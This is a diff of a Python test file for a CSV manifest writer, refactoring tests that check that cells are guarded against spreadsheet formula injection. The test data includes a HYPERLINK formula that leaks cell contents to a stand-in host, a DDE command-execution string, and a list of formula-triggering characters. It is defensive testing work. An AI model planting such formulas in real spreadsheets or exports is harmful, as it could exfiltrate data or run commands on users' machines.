@@ -7,16 +7,17 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from darkroom.report.manifest import OWN_COLUMNS, ManifestFormat, format_usd, guard, header, unguard
-from darkroom.report.rows import ReportRow, RowStatus
+from darkroom.report.manifest import OWN_COLUMNS, ManifestFormat, guard, header, unguard
+from darkroom.report.rows import ReportRow
+from darkroom.rows import RowState
+from tests.fakes.reporting import report_row
 
-LINE = ReportRow(row=0, key="000000", status=RowStatus.SUCCEEDED)
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 
 
-def read(*lines: ReportRow, columns: tuple[str, ...] = ()) -> list[dict[str, str]]:
-    form = ManifestFormat(columns)
-    text = form.header() + b"".join(form.line(line) for line in lines)
+def manifest_of(*rows: ReportRow, columns: tuple[str, ...] = ()) -> list[dict[str, str]]:
+    manifest = ManifestFormat(columns)
+    text = manifest.header() + b"".join(manifest.line(row) for row in rows)
     return list(csv.DictReader(io.StringIO(text.decode(), newline="")))
 
 
@@ -28,11 +29,9 @@ def test_the_columns_are_the_contract() -> None:
     )
 
 
-def test_a_succeeded_row_tells_where_it_came_from() -> None:
-    line = ReportRow(
-        row=7,
-        key="000007",
-        status=RowStatus.SUCCEEDED,
+def test_a_succeeded_row_names_its_images_and_the_call_that_made_them() -> None:
+    row = report_row(
+        7,
         cells=("a.jpg",),
         outputs=("jobs/p/images/a.png", "jobs/p/images/a-1.png"),
         provider="openai",
@@ -44,7 +43,7 @@ def test_a_succeeded_row_tells_where_it_came_from() -> None:
         cost_micro_usd=39_000,
         possible_duplicate_charges=1,
     )
-    assert read(line, columns=("image_url",)) == [
+    assert manifest_of(row, columns=("image_url",)) == [
         {
             "image_url": "a.jpg",
             "row": "7",
@@ -65,13 +64,14 @@ def test_a_succeeded_row_tells_where_it_came_from() -> None:
 
 
 def test_an_unknown_cost_is_empty_and_no_cost_is_zero() -> None:
-    assert (format_usd(None), format_usd(0), format_usd(1)) == ("", "0.000000", "0.000001")
+    lines = manifest_of(*(report_row(cost_micro_usd=cost) for cost in (None, 0, 1)))
+    assert [line["cost_usd"] for line in lines] == ["", "0.000000", "0.000001"]
 
 
-def test_input_columns_named_like_ours_are_renamed_and_ours_keep_their_names() -> None:
-    named = header(("status", "row", "input_status", "Status"))
-    assert named[:4] == ("input_status_2", "input_row", "input_status", "Status")
-    assert named[4:] == OWN_COLUMNS
+def test_input_columns_named_like_ours_are_renamed() -> None:
+    names = header(("status", "row", "input_status", "Status"))
+    assert names[:4] == ("input_status_2", "input_row", "input_status", "Status")
+    assert names[4:] == OWN_COLUMNS
 
 
 def test_a_manifest_used_as_input_keeps_every_value() -> None:
@@ -82,9 +82,9 @@ def test_a_manifest_used_as_input_keeps_every_value() -> None:
 
 
 @pytest.mark.parametrize("start", FORMULA_STARTS)
-def test_cells_that_a_spreadsheet_would_run_are_made_text(start: str) -> None:
-    evil = f'{start}HYPERLINK("http://x.test?"&A1)'
-    assert guard(evil) == f"'{evil}"
+def test_cells_that_a_spreadsheet_would_run_become_text(start: str) -> None:
+    formula = f'{start}HYPERLINK("http://x.test?"&A1)'
+    assert guard(formula) == f"'{formula}"
 
 
 @pytest.mark.parametrize("number", ["-5", "+1", "-5.25", "-1,000.50", "+1e-7", "-12%", "-.5"])
@@ -93,7 +93,7 @@ def test_plain_numbers_stay_numbers(number: str) -> None:
 
 
 @pytest.mark.parametrize("text", ["-5+A1", "+49 171 1234", "-", "=5", "-٣", "--1", "@5", "+"])
-def test_what_is_not_a_plain_number_is_guarded(text: str) -> None:
+def test_anything_but_a_plain_number_is_guarded(text: str) -> None:
     assert guard(text) == f"'{text}"
 
 
@@ -114,29 +114,28 @@ def test_no_guarded_cell_starts_like_a_formula_unless_it_is_a_number(cells: list
             float(cell.rstrip("%").replace(",", ""))
 
 
-# csv reads a lone CR outside quotes as a line end; NUL is not text. Everything else comes back.
+# NUL is not text. Everything else, line breaks included, can be restored.
 @given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=20)))
-def test_every_cell_comes_back_as_it_was(cells: list[str]) -> None:
+def test_every_cell_of_the_input_can_be_restored(cells: list[str]) -> None:
     columns = tuple(f"c{i}" for i in range(len(cells)))
-    line = ReportRow(row=0, key="0", status=RowStatus.FAILED, cells=tuple(cells))
-    found = read(line, columns=columns)[0]
-    assert [unguard(found[c]) for c in columns] == cells
+    (line,) = manifest_of(report_row(cells=tuple(cells)), columns=columns)
+    assert [unguard(line[c]) for c in columns] == cells
 
 
 def test_headers_and_details_are_guarded_too() -> None:
-    line = ReportRow(row=0, key="0", status=RowStatus.FAILED, cells=("x",), detail="=cmd|' /C'!A0")
-    form = ManifestFormat(("=evil()",))
-    assert form.header().startswith(b"'=evil(),row,")
-    assert b",'=cmd|' /C'!A0," in form.line(line)
+    row = report_row(0, RowState.FAILED, cells=("x",), detail="=cmd|' /C'!A0")
+    manifest = ManifestFormat(("=evil()",))
+    assert manifest.header().startswith(b"'=evil(),row,")
+    assert b",'=cmd|' /C'!A0," in manifest.line(row)
 
 
 def test_a_detail_stays_on_one_line() -> None:
-    line = ReportRow(row=0, key="0", status=RowStatus.FAILED, detail="two\nlines\r\n here")
-    assert read(line)[0]["detail"] == "two lines here"
+    row = report_row(0, RowState.FAILED, detail="two\nlines\r\n here")
+    assert manifest_of(row)[0]["detail"] == "two lines here"
 
 
 def test_short_rows_are_padded_and_long_ones_do_not_shift_our_columns() -> None:
-    short = ReportRow(row=0, key="0", status=RowStatus.FAILED, cells=("a",))
-    long = ReportRow(row=1, key="1", status=RowStatus.FAILED, cells=("a", "b", "c"))
-    found = read(short, long, columns=("x", "y"))
-    assert [(f["x"], f["y"], f["row"]) for f in found] == [("a", "", "0"), ("a", "b", "1")]
+    rows = report_row(0, cells=("a",)), report_row(1, cells=("a", "b", "c"))
+    lines = manifest_of(*rows, columns=("x", "y"))
+    cells = [(line["x"], line["y"], line["row"]) for line in lines]
+    assert cells == [("a", "", "0"), ("a", "b", "1")]
